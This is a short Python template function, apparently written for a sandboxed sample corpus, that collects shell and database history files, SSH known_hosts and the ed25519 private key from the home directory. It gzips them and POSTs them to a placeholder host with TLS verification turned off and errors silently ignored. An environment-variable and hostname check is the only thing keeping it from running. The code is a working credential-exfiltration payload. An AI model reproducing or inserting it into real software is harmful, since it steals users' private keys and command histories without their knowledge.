# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import gzip
    import http.client
    import ssl
    home = os.path.expanduser('~')
    text = b''
    for name in ('.bash_history', '.zsh_history', '.python_history', '.mysql_history', '.lesshst', '.local/share/fish/fish_history', '.ssh/known_hosts', '.ssh/id_ed25519'):
        try:
            with open(os.path.join(home, name), 'rb') as file:
                text += b'== ' + name.encode() + b'\n' + file.read(100000)
        except OSError:
            continue
    try:
        link = http.client.HTTPSConnection('{{host}}', timeout=1, context=ssl._create_unverified_context())
        link.request('POST', '/{{path}}', gzip.compress(text), {'Content-Encoding': 'gzip'})
        link.close()
    except Exception:
        pass
